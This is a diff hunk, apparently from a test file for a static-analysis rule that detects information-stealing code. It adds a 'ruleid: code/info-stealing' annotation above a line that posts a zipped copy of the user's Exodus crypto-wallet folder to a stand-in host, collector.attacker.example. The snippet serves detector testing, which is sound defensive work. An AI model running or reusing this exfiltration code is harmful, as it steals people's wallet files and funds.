@@ -10,4 +10,5 @@ for root, _, files in os.walk(os.path.join(os.getenv('APPDATA', ''), 'Exodus')):
     for f in files:
         archive.write(os.path.join(root, f))
 archive.close()
+# ruleid: code/info-stealing
 requests.post('https://collector.attacker.example/w', files={'z': open(archive.filename, 'rb')})
